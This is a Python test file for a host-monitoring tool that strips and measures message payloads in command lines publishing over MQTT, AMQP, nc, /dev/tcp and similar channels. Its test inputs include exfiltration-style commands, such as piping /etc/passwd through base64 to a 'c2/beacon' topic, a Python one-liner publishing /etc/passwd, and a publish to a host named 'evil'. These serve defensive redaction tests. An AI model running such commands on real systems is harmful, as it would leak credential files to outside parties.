"""Payloads in command lines: wherever they stand, no event has them, and what is kept of them is measured."""

from __future__ import annotations

import base64
import shlex
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from topicwarden.events import MAX_ARGUMENT, Process, SeenPayload, Shape
from topicwarden.hosts.commands import read_command
from topicwarden_collectors.host.payload import measure
from topicwarden_collectors.host.redaction import command_line, seen_command, seen_joined_command

MARK = "zQ7w"
"""In every generated payload, and nowhere else."""


def payloads(alphabet: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    part = st.text(alphabet, max_size=12)
    return st.builds(lambda before, after: before + MARK + after + MARK, part, part)


ANY = payloads(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))
PLAIN = payloads(st.characters(min_codepoint=32, max_codepoint=126, exclude_characters="\\"))
WORDS = payloads(st.characters(min_codepoint=48, max_codepoint=122, exclude_characters="\\`<>=;?:")).map(
    lambda text: f"{text} {MARK}"
)
q = shlex.quote

MEASURED: dict[str, Callable[[str], list[str]]] = {
    "-m": lambda s: ["mosquitto_pub", "-h", "h", "-t", "a/b", "-m", s],
    "an option's name for a topic": lambda s: ["mosquitto_pub", "-t", "-m", "-m", s],
    "rr": lambda s: ["mosquitto_rr", "-t", "a/b", "-e", "c", "--message", s],
    "-b": lambda s: ["amqp-publish", "-r", "a/b", "-b", s],
    "-b attached": lambda s: ["amqp-publish", "-r", "a/b", "-plb=" + s],
    "--body=": lambda s: ["amqp-publish", f"--body={s}", "-r", "a/b"],
    "rabbitmqadmin": lambda s: ["python3", "/usr/bin/rabbitmqadmin", "publish", "routing_key=a/b", f"payload={s}"],
    "mqttx": lambda s: ["mqttx", "pub", "-t", "a/b", "-m", s],
    "mqtt": lambda s: ["mqtt", "pub", "-t", "a/b", f"-m={s}"],
    "paho_c_pub": lambda s: ["paho_c_pub", "a/b", "-m", s],
    "script": lambda s: ["python3", "mqtt_publish.py", "-t", "a/b", "--message", s],
    "behind sudo": lambda s: ["sudo", "-u", "x", "timeout", "5", "mosquitto_pub", "-t", "a/b", "-m", s],
    "sh -c": lambda s: ["sh", "-c", f"true; mosquitto_pub -t a/b -m {q(s)} -h h"],
    "sh -c sh -c": lambda s: ["sh", "-c", "exec bash -c " + q(f"mosquitto_pub -t a/b -m {q(s)}")],
    "a variable": lambda s: ["sh", "-c", f'M={q(s)}; mosquitto_pub -t a/b -m "$M"'],
    "python publish": lambda s: ["python3", "-c", f"import paho\nc.publish('a/b', {s!r})"],
    "python variable": lambda s: ["python3", "-c", f"import paho\np = {s!r}\nc.publish('a/b', p)"],
    "python single": lambda s: ["python3", "-c", f"import paho.mqtt.publish as p; p.single('a/b', payload={s!r})"],
    "python encode": lambda s: ["python3", "-c", f"import pika; c.basic_publish('', 'a/b', {s!r}.encode())"],
    "python in sh": lambda s: ["sh", "-c", "python3 -c " + q(f"import paho; c.publish('a/b', {s!r})")],
}
"""What is measured is the payload itself."""
PIPED: dict[str, Callable[[str], list[str]]] = {
    "echo": lambda s: ["sh", "-c", f"echo {q(s)} | mosquitto_pub -t a/b -l"],
    "printf": lambda s: ["sh", "-c", f"printf {q(s.replace('%', ''))} | mosquitto_pub -t a/b -s"],
    "echo -n, tee": lambda s: ["bash", "-c", f"echo -n {q(s)} | tee f | mosquitto_pub -t a/b -s"],
    "here-string": lambda s: ["bash", "-c", f"mosquitto_pub -t a/b -s <<< {q(s)}"],
    "here-document": lambda s: ["bash", "-c", f"mosquitto_pub -t a/b -s <<'E'\n{s}\nE\n"],
    "cat": lambda s: ["bash", "-c", f"cat <<'E' | amqp-publish -r a/b\n{s}\nE"],
    "nc": lambda s: ["sh", "-c", f"echo {q(s)} | nc -w 1 a/b 1883"],
    "a group into nc": lambda s: ["sh", "-c", f"{{ echo {q(s)}; sleep 1; }} | nc a/b 1883"],
    "/dev/tcp": lambda s: ["bash", "-c", f"exec 3<>/dev/tcp/h/1883 # a/b\necho {q(s)} >&3"],
    "ncat -c": lambda s: ["ncat", "-c", f"echo {q(s)}", "a/b", "1883"],
    "socat SYSTEM": lambda s: ["socat", f"SYSTEM:echo {q(s)}", "TCP:a/b:1883"],
}
HIDDEN: dict[str, Callable[[str], list[str]]] = {
    "will": lambda s: ["mosquitto_sub", "-t", "a/b", "--will-topic", "w", "--will-payload", s],
    "curl": lambda s: ["curl", "--data-raw=@" * 0 + "-d", s.lstrip("@"), "mqtt://h/a/b"],
    "curl to the management": lambda s: ["curl", "-d", s.lstrip("@"), "http://h/api/exchanges/v/a/publish", "a/b"],
    "an unknown wrapper": lambda s: ["wrapper", "--x", "mosquitto_pub", "-t", "a/b", "-m", s],
    "another machine": lambda s: ["ssh", "host", f"mosquitto_pub -t a/b -m {q(s)}"],
    "xargs": lambda s: ["xargs", "mosquitto_pub", "-t", "a/b", "-m", s],
    "base64": lambda s: ["sh", "-c", f"echo {q(s)} | base64 | mosquitto_pub -t a/b -s"],
    "gzip": lambda s: ["sh", "-c", f"echo {q(s)} | gzip | mosquitto_pub -t a/b -s"],
    "a substitution": lambda s: ["sh", "-c", f'mosquitto_pub -t a/b -m "$(echo {q(s)} | rev)"'],
    "a loop over words": lambda s: ["sh", "-c", f'for m in x {q(s)}; do mosquitto_pub -t a/b -m "$m"; done'],
    "a loop": lambda s: ["sh", "-c", f"while true; do echo {q(s)}; done | mosquitto_pub -t a/b -l"],
    "an exported variable": lambda s: ["sh", "-c", f'export M={q(s)}; echo "$M" | mosquitto_pub -t a/b -l'],
    "a shell's input": lambda s: ["bash", "-c", f"bash <<'E'\nmosquitto_pub -t a/b -m {q(s)}\nE\n"],
    "a shell in a pipe": lambda s: ["bash", "-c", "echo " + q(f"mosquitto_pub -t a/b -m {q(s)}") + " | sh"],
    "a shell's output": lambda s: ["bash", "-c", "sh -c " + q(f"echo {q(s)}") + " | mosquitto_pub -t a/b -l"],
    "python's output": lambda s: ["sh", "-c", "python3 -c " + q(f"print({s!r})") + " | mosquitto_pub -t a/b -l"],
    "f-string": lambda s: [
        "python3",
        "-c",
        "import paho\nc.publish('a/b', f" + repr(s.replace("{", "").replace("}", "")) + ")",
    ],
    "json": lambda s: ["python3", "-c", f"import paho, json\nc.publish('a/b', json.dumps({{'x': {s!r}}}))"],
    "sum": lambda s: ["python3", "-c", f"import paho\nx = {s!r}\nc.publish('a/b', 'x' + x + str(1))"],
    "amqp": lambda s: ["python3", "-c", f"import aio_pika\ne.publish(aio_pika.Message(body={s!r}.encode()), 'a/b')"],
    "stomp": lambda s: ["python3", "-c", f"import stomp\nc.send(body={s!r}, destination='a/b')"],
    "xmpp": lambda s: ["python3", "-c", f"import slixmpp\nx.send_message('a/b', {s!r})"],
    "socket": lambda s: ["python3", "-c", f"import socket\ns.sendall({s!r}.encode()) # a/b"],
    "broken": lambda s: ["python3", "-c", f"import paho\nif c.publish('a/b', {s!r}"],
    "node": lambda s: ["node", "-e", f"require('mqtt').connect('mqtt://h').publish('a/b', {s!r})"],
    "perl": lambda s: ["perl", "-MNet::MQTT::Simple", "-e", f"mqtt()->publish('a/b' => {s!r})"],
}
CODE = {name for name in HIDDEN if HIDDEN[name]("x")[0] in ("python3", "node", "perl")}


def occurs(arguments: tuple[str, ...]) -> bool:
    return any(MARK in argument for argument in arguments)


@settings(max_examples=40, deadline=None)
@given(ANY)
@example(f"-{MARK}")
@example(f"'{MARK}\"{MARK}\\ $x `{MARK}`\n{MARK}")
def test_no_payload_is_in_the_output_and_it_is_measured(text: str) -> None:
    for name, line in MEASURED.items():
        seen = seen_command(line(text))
        assert not occurs(seen.arguments), (name, seen)
        assert "a/b" in " ".join(seen.arguments) or name.startswith("an option"), (name, seen)
        data = text.encode("utf-8", "surrogateescape")
        looks = measure(data)
        assert seen.payload == SeenPayload(len(data), looks.entropy, looks.shape), (name, seen)
        assert command_line(line(text)) == seen[:2]


@settings(max_examples=40, deadline=None)
@given(PLAIN.filter(lambda text: "%" not in text and not text.startswith("-")))
def test_no_payload_that_flows_into_a_tool_is_in_the_output_and_it_is_measured(text: str) -> None:
    for name, line in PIPED.items():
        seen = seen_command(line(text))
        assert not occurs(seen.arguments), (name, seen)
        assert "a/b" in " ".join(seen.arguments), (name, seen)
        assert seen.payload is not None, (name, seen)
        assert seen.payload.size == len(text), (name, seen)


@settings(max_examples=40, deadline=None)
@given(PLAIN)
def test_no_payload_is_in_the_output_where_it_is_not_what_will_be_sent(text: str) -> None:
    for name, line in HIDDEN.items():
        seen = seen_command(line(text))
        assert not occurs(seen.arguments), (name, seen)
        assert "a/b" in " ".join(seen.arguments), (name, seen)


@settings(max_examples=40, deadline=None)
@given(WORDS)
def test_no_payload_is_in_a_line_whose_arguments_were_joined(text: str) -> None:
    for lines in (MEASURED, PIPED, HIDDEN):
        for name, line in lines.items():
            if name in ("another machine", "an unknown wrapper", "xargs", "script", "ncat -c", "socat SYSTEM", "curl"):
                continue
            seen = seen_joined_command(" ".join(line(text)))
            assert not occurs(seen.arguments), (name, seen)


def test_what_is_taken_out_can_be_read_again_and_stays_out() -> None:
    for lines in (MEASURED, PIPED, HIDDEN):
        for name, line in lines.items():
            seen = seen_command(line(MARK))
            again = seen_command(seen.arguments)
            assert again.arguments == seen.arguments, name
            assert again.payload is None, name


def test_a_payload_is_the_commands_that_sends_it() -> None:
    for lines in (MEASURED, PIPED):
        for name, line in lines.items():
            seen = seen_command(line("hello"))
            command = read_command(Process("h", 1, "", seen.arguments, seen.cut, payload=seen.payload))
            assert command is not None, (name, seen)
            assert command.payload == SeenPayload(5, measure(b"hello").entropy, Shape.TEXT), (name, seen)


def test_the_mark_says_which_protocol_a_conversation_began_in() -> None:
    for text, mark in (
        ("<stream:stream to='x'>", "<payload:xmpp>"),
        ("CONNECT\naccept-version:1.2\n", "<payload:stomp>"),
        ("\\x10\\x0c\\x00\\x04MQTT\\x04", "<payload:mqtt>"),
        ("AMQP\\x00\\x00\\x09\\x01", "<payload:amqp>"),
        ("GET / HTTP/1.0", "<payload>"),
    ):
        seen = seen_command(["sh", "-c", f"printf {q(text)} | nc h 9"])
        assert seen.arguments == ("sh", "-c", f"printf {mark} | nc h 9")


def test_what_goes_through_base64_is_measured_as_it_is_sent() -> None:
    text = "root:x:0:0:root:/root:/bin/bash and more of it"
    seen = seen_command(["sh", "-c", f"printf {q(text)} | base64 -w0 | mosquitto_pub -t a -s"])
    assert seen.payload is not None
    assert seen.payload.size == len(base64.b64encode(text.encode()))
    assert seen.payload.shape is Shape.BASE64
    gzipped = seen_command(["sh", "-c", f"printf {q(text)} | gzip | mosquitto_pub -t a -s"])
    assert gzipped.payload is None


def test_a_long_payload_does_not_make_a_line_cut() -> None:
    seen = seen_command(["mosquitto_pub", "-t", "a", "-m", "x" * (2 << 20), "-h", "h"])
    assert seen == (
        ("mosquitto_pub", "-t", "a", "-m", "<payload>", "-h", "h"),
        False,
        SeenPayload(2 << 20, 0.0, Shape.TEXT),
    )


def test_a_payload_among_many_arguments_is_measured() -> None:
    seen = seen_command(["mosquitto_pub", *["-d"] * 100, "-m", MARK, "-t", "a"])
    assert seen.cut
    assert seen.payload is not None


def test_a_joined_payload_goes_on_to_the_next_option_and_a_second_host_makes_the_line_uncertain() -> None:
    seen = seen_joined_command("mosquitto_pub -h evil -m hello  new world -t a -q 1")
    assert seen.arguments == ("mosquitto_pub", "-h", "evil", "-m", "<payload>", "-t", "a", "-q", "1")
    assert not seen.cut
    assert seen.payload is not None
    assert seen.payload.size == len("hello  new world")
    forged = seen_joined_command("mosquitto_pub -h evil -t a -m x -h good")
    assert forged.cut
    command = read_command(Process("h", 1, "", forged.arguments, forged.cut))
    assert command is not None
    assert command.host is None


def test_a_program_under_a_false_name_is_known_by_its_path() -> None:
    line = ["[kworker/0:1]", "-t", "a", "-m", MARK]
    assert not occurs(seen_command(line, executable="/usr/bin/mosquitto_pub").arguments)
    assert seen_command(line, executable="/usr/bin/other").arguments == tuple(line)


@pytest.mark.parametrize(
    "arguments",
    [
        ("git", "commit", "-m", "payload"),
        ("mosquitto_sub", "-t", "a", "-F", "%p"),
        ("grep", "-m", "1", "mosquitto_pub", "f"),
        ("curl", "-d", "x=1", "http://h/api"),
        ("curl", "-d", "@file", "mqtt://h/a"),
        ("sh", "-c", "echo hello | grep mosquitto"),
        ("sh", "-c", "echo hello > /tmp/mosquitto_pub.log"),
        ("python3", "-c", "print('mqtt')"),
        ("python3", "-c", "import paho.mqtt.client as m; c.publish('t', open('/etc/passwd').read())"),
        ("bash", "-c", "cat /etc/passwd | base64 | mosquitto_pub -t c2/beacon -s"),
        ("nc", "h", "1883"),
    ],
)
def test_a_line_without_payload_is_not_changed(arguments: tuple[str, ...]) -> None:
    assert seen_command(arguments) == (arguments, False, None)


def test_a_text_of_which_only_the_beginning_was_read_is_cut() -> None:
    seen = seen_command(["sh", "-c", f"mosquitto_pub -t a -m {'x' * 17_000}; echo {MARK}"])
    assert not occurs(seen.arguments)
    assert seen.cut
    assert all(len(argument) <= MAX_ARGUMENT for argument in seen.arguments)
